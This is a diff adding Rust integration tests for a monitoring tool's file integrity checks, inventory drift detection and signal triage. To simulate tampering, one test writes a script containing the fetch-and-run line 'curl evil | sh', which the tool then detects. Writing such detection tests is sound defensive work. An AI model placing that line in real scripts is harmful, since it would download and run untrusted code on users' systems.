@@ -1,0 +1,261 @@
+//! Signals from the running system through the binary, on the demo store: a file
+//! integrity baseline and check (added, removed, content and permission-only changes,
+//! exit codes, issues recorded and closed when fixed), an inventory's drift, and signal
+//! triage.
+#![allow(clippy::unwrap_used, reason = "tests panic on failure by design")]
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::Command;
+
+use serde_json::Value;
+
+fn vigil(cwd: &Path, args: &[&str], stdin: Option<&str>) -> (i32, String, String) {
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_vigil"));
+    cmd.args(args)
+        .current_dir(cwd)
+        .env_remove("VIGIL_DATABASE_URL")
+        .env_remove("VIGIL_DATA_DIR")
+        .env_remove("VIGIL_TOKEN");
+    let out = match stdin {
+        Some(text) => {
+            use std::io::Write;
+            let mut child = cmd
+                .stdin(std::process::Stdio::piped())
+                .stdout(std::process::Stdio::piped())
+                .stderr(std::process::Stdio::piped())
+                .spawn()
+                .unwrap();
+            child
+                .stdin
+                .take()
+                .unwrap()
+                .write_all(text.as_bytes())
+                .unwrap();
+            child.wait_with_output().unwrap()
+        }
+        None => cmd.output().unwrap(),
+    };
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8(out.stdout).unwrap(),
+        String::from_utf8(out.stderr).unwrap(),
+    )
+}
+
+fn json(cwd: &Path, args: &[&str]) -> Value {
+    let mut all = vec!["--data-dir", "store"];
+    all.extend(args);
+    all.extend(["--format", "json"]);
+    let (_, out, err) = vigil(cwd, &all, None);
+    serde_json::from_str(&out).unwrap_or_else(|e| panic!("{args:?}: {e}: {out} {err}"))
+}
+
+#[test]
+fn file_integrity_baseline_check_and_issues() {
+    let tmp = tempfile::tempdir().unwrap();
+    let cwd = tmp.path();
+    assert_eq!(
+        vigil(cwd, &["demo", "--dir", "store", "--no-serve"], None).0,
+        0
+    );
+    let app = cwd.join("app");
+    std::fs::create_dir_all(app.join("bin")).unwrap();
+    std::fs::write(app.join("bin/run"), "#!/bin/sh\necho ok\n").unwrap();
+    std::fs::write(app.join("app.conf"), "port = 8080\n").unwrap();
+    std::fs::write(app.join("old.txt"), "x").unwrap();
+    let b = json(
+        cwd,
+        &[
+            "fim",
+            "baseline",
+            "--service",
+            "checkout",
+            "--version",
+            "2.4.0",
+            "app",
+        ],
+    );
+    assert_eq!(b["files"], 3, "{b}");
+    let check = [
+        "--data-dir",
+        "store",
+        "fim",
+        "check",
+        "--service",
+        "checkout",
+        "--version",
+        "2.4.0",
+        "app",
+    ];
+    let (code, out, err) = vigil(cwd, &check, None);
+    assert_eq!(code, 0, "clean: {out} {err}");
+    // Content, permission only, added, removed.
+    std::fs::write(app.join("bin/run"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    std::fs::set_permissions(app.join("app.conf"), std::fs::Permissions::from_mode(0o666)).unwrap();
+    std::fs::write(app.join("dropper"), "x").unwrap();
+    std::fs::remove_file(app.join("old.txt")).unwrap();
+    let mut with_env = check.to_vec();
+    with_env.extend(["--env", "production", "--format", "json"]);
+    let (code, out, err) = vigil(cwd, &with_env, None);
+    assert_eq!(code, 1, "changes: {err}");
+    let report: Value = serde_json::from_str(&out).unwrap();
+    let mut seen: Vec<(String, String, Vec<String>)> = report["changes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| {
+            (
+                c["change"].as_str().unwrap().to_owned(),
+                c["path"].as_str().unwrap().to_owned(),
+                c["what"]
+                    .as_array()
+                    .unwrap()
+                    .iter()
+                    .map(|w| w.as_str().unwrap().to_owned())
+                    .collect(),
+            )
+        })
+        .collect();
+    seen.sort();
+    assert_eq!(
+        seen,
+        vec![
+            ("added".into(), "dropper".into(), vec![]),
+            ("changed".into(), "app.conf".into(), vec!["mode".into()]),
+            ("changed".into(), "bin/run".into(), vec!["content".into(), "size".into()]),
+            ("removed".into(), "old.txt".into(), vec![]),
+        ],
+        "{out}"
+    );
+    let signals = json(cwd, &["signals", "list", "--kind", "fim"]);
+    assert_eq!(signals.as_array().unwrap().len(), 4, "{signals}");
+    let high: Vec<&Value> = signals
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|s| s["severity"] == "high")
+        .collect();
+    assert_eq!(high.len(), 1, "the content change is high: {signals}");
+    // Put it back: the next check closes the issues.
+    std::fs::write(app.join("bin/run"), "#!/bin/sh\necho ok\n").unwrap();
+    std::fs::set_permissions(app.join("app.conf"), std::fs::Permissions::from_mode(0o644)).unwrap();
+    std::fs::remove_file(app.join("dropper")).unwrap();
+    std::fs::write(app.join("old.txt"), "x").unwrap();
+    let (code, _, err) = vigil(cwd, &with_env, None);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(
+        json(cwd, &["signals", "list", "--kind", "fim"])
+            .as_array()
+            .unwrap()
+            .len(),
+        0
+    );
+    // A baseline needs a release that exists, and a check a baseline.
+    let (code, _, err) = vigil(
+        cwd,
+        &[
+            "--data-dir",
+            "store",
+            "fim",
+            "baseline",
+            "--service",
+            "checkout",
+            "--version",
+            "9.9.9",
+            "app",
+        ],
+        None,
+    );
+    assert_eq!(code, 2, "{err}");
+    let (code, _, err) = vigil(
+        cwd,
+        &[
+            "--data-dir",
+            "store",
+            "fim",
+            "check",
+            "--service",
+            "catalog",
+            "--version",
+            "3.1.0",
+            "app",
+        ],
+        None,
+    );
+    assert_ne!(code, 0);
+    assert!(err.contains("no baseline"), "{err}");
+}
+
+#[test]
+fn an_inventory_shows_drift_and_signals_are_triaged() {
+    let tmp = tempfile::tempdir().unwrap();
+    let cwd = tmp.path();
+    assert_eq!(
+        vigil(cwd, &["demo", "--dir", "store", "--no-serve"], None).0,
+        0
+    );
+    // What runs in staging, by name and version: checkout runs 2.4.0 where 2.4.1 is
+    // deployed, and search-indexer is not running.
+    let list = r#"[{"service": "checkout", "version": "2.4.0"}, {"service": "payments-api", "version": "1.5.0"},
+        {"service": "catalog", "version": "3.2.0"}, {"service": "gateway", "version": "1.9.0"}]"#;
+    let (code, out, err) = vigil(
+        cwd,
+        &["--data-dir", "store", "inventory", "-", "--env", "staging"],
+        Some(list),
+    );
+    assert_eq!(code, 1, "drift: {out} {err}");
+    assert!(
+        out.contains("drift.version_mismatch") && out.contains("drift.missing"),
+        "{out}"
+    );
+    let signals = json(cwd, &["signals", "list", "--env", "staging"]);
+    let missing = signals
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["rule"] == "drift.missing")
+        .unwrap();
+    let id = missing["id"].as_i64().unwrap().to_string();
+    let (code, out, err) = vigil(
+        cwd,
+        &[
+            "--data-dir",
+            "store",
+            "signals",
+            "triage",
+            &id,
+            "--status",
+            "risk_accepted",
+            "--for-days",
+            "7",
+            "--reason",
+            "scaled to zero at night",
+        ],
+        None,
+    );
+    assert_eq!(code, 0, "{out} {err}");
+    let after = json(cwd, &["signals", "list", "--env", "staging"]);
+    let row = after
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["id"].as_i64().unwrap().to_string() == id)
+        .unwrap();
+    assert_eq!(row["triage"], "risk_accepted");
+    assert_eq!(row["overdue"], false);
+    let (code, _, err) = vigil(
+        cwd,
+        &[
+            "--data-dir",
+            "store",
+            "signals",
+            "triage",
+            &id,
+            "--status",
+            "not_affected",
+        ],
+        None,
+    );
+    assert_eq!(code, 2, "a justification is needed: {err}");
+}
